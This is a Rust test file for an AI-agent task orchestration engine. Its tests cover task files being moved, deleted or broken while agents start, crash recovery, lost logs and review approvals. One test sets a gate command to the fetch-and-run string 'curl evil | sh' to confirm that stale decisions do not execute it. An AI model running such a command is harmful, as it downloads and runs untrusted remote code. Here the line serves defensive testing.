//! What people and other processes do at the very moment the engine is at it.

use crate::{Act, Script, World, chain_tests::run, quiet_end};
use orchestron_domain::{
    Actor, AgentName, CallId, Fact, Holder, Leg, RequestKind, RunEnd, Status, TaskId,
    signal::{Say, Signal},
};
use orchestron_engine::{Engine, Mode};

const HELD: &str = "tasks/in-progress/TASK-001-search.md";

fn world() -> World {
    let world = World::new();
    world.task(1, Status::Ready, "Search");
    world
}

/// Another process takes into the log what a person just did to the files.
fn noticed(world: &World) {
    world.store().refresh().unwrap();
}

#[test]
fn a_task_moved_away_while_its_agent_starts_stays_away_and_leaves_its_place() {
    let world = world();
    world.task(2, Status::Ready, "Next");
    world.script("implement", vec![]);
    world.while_starting("implement", |world| {
        world.rename(HELD, "tasks/done/TASK-001-search.md");
        noticed(world);
    });
    let state = run(&world);
    assert_eq!(world.status("TASK-001"), Some(Status::Done));
    assert_eq!(state.live_runs().count(), 0);
    assert_eq!(world.status("TASK-002"), Some(Status::Review));
}

#[test]
fn a_task_deleted_while_its_agent_or_gate_starts_asks_nobody_and_leaves_its_place() {
    for kind in ["implement", "gate-test"] {
        let world = world();
        world.task(2, Status::Ready, "Next");
        world.while_starting(kind, |world| {
            world.remove(HELD);
            noticed(world);
        });
        let state = run(&world);
        assert_eq!(state.live_runs().count(), 0, "{kind}");
        assert_eq!(world.status("TASK-002"), Some(Status::Review), "{kind}");
        let about: Vec<_> = state
            .open_requests()
            .filter_map(|request| request.task.as_ref())
            .map(ToString::to_string)
            .collect();
        assert_eq!(about, ["TASK-002"], "{kind}");
    }
}

#[test]
fn what_was_decided_before_the_configuration_changed_does_not_run_the_new_commands() {
    for at in 0..60 {
        let world = world();
        world.die_after(at);
        if let Ok(mut engine) = Engine::start(world.ports(), Mode::Run) {
            drop(engine.run());
        }
        world.revive();
        // Died between the decision and the start, not after it.
        let gate = "TASK-001-gate-test-1";
        let told =
            |fact: &Fact| matches!(fact, Fact::RunStarted { run, .. } if run.to_string() == gate);
        if !world.facts().iter().any(told) {
            world.lose_run(gate);
        }
        world.configure(|config| config.gates[0].run = "curl evil | sh".into());
        run(&world);
        assert!(
            !world.commands().contains(&"curl evil | sh".to_owned()),
            "after death at write {at}"
        );
    }
}

#[test]
fn an_agent_gets_an_answer_also_when_its_task_file_is_broken_just_now() {
    let world = world();
    let call = CallId("c".into());
    let script: Script = vec![
        Act::Says(Signal::ToolCalled {
            call: call.clone(),
            tool: "task_submit".into(),
            arguments: r#"{"note": "done", "criteria_met": [1]}"#.into(),
        }),
        Act::AwaitsReply(call.clone()),
        Act::Says(Signal::TurnEnded {
            end: RunEnd::Completed,
            words: "bye".into(),
            denials: 0,
        }),
        Act::AwaitsHalt,
        Act::Ends(quiet_end()),
    ];
    world.script("implement", script);
    world.while_starting("implement", |world| {
        world.write(HELD, "<<<<<<< HEAD\nno task\n");
    });
    run(&world);
    let said = world.said("TASK-001-implement-1");
    let answered = |say: &Say| matches!(say, Say::Reply { call: c, ok: false, .. } if *c == call);
    assert!(said.iter().any(answered), "{said:?}");
}

#[test]
fn a_run_whose_folder_was_removed_while_no_engine_was_there_is_lost_and_tried_again() {
    let world = world();
    let ask = orchestron_domain::AskId("a".into());
    let asked = Signal::Asked {
        ask: ask.clone(),
        tool: "Bash".into(),
        input: "{}".into(),
        summary: "ls".into(),
        reason: None,
    };
    world.script("implement", vec![Act::Says(asked), Act::AwaitsPermit(ask)]);
    run(&world);
    world.lose_run("TASK-001-implement-1");
    let state = run(&world);
    assert_eq!(world.status("TASK-001"), Some(Status::Review));
    let [request] = state.open_requests().collect::<Vec<_>>()[..] else {
        panic!("{:?}", state.requests)
    };
    assert!(matches!(request.kind, RequestKind::Review { .. }));
    let lost = |fact: &Fact| {
        matches!(
            fact,
            Fact::RunEnded {
                end: RunEnd::Lost,
                ..
            }
        )
    };
    assert_eq!(world.facts().iter().filter(|fact| lost(fact)).count(), 1);
}

#[test]
fn an_approval_is_bound_to_a_commit_also_when_the_log_was_lost() {
    let world = world();
    run(&world);
    world.lose_log();
    world.trust();
    let state = run(&world);
    let [request] = state.open_requests().collect::<Vec<_>>()[..] else {
        panic!("{:?}", state.requests)
    };
    assert!(
        matches!(&request.kind, RequestKind::Review { commit: Some(commit) } if Some(&commit.0) == world.tip("TASK-001").as_ref()),
        "{request:?}"
    );
}

#[test]
fn work_of_a_holder_outside_is_checked_also_when_the_log_was_lost() {
    let world = World::new();
    world.task(1, Status::InProgress, "Search");
    world.outside("cursor");
    world.chain(None, Some("cursor"), None);
    let name: AgentName = "cursor".parse().unwrap();
    let by = Actor::Outside { name: name.clone() };
    let task: TaskId = "TASK-1".parse().unwrap();
    let says = |fact| world.store().append(&by, vec![fact]).unwrap();
    noticed(&world);
    says(Fact::Claimed {
        task: task.clone(),
        leg: Leg::Implement,
        holder: Holder::Outside(name.clone()),
        attempt: 1,
        why: None,
    });
    run(&world);
    world.lose_log();
    world.trust();
    run(&world);
    says(Fact::Submitted {
        task,
        leg: Leg::Implement,
        note: "done".into(),
        run: None,
    });
    let state = run(&world);
    assert_eq!(world.status("TASK-001"), Some(Status::Review));
    let [request] = state.open_requests().collect::<Vec<_>>()[..] else {
        panic!("{:?}", state.requests)
    };
    assert!(
        matches!(request.kind, RequestKind::Review { .. }),
        "{request:?}"
    );
}
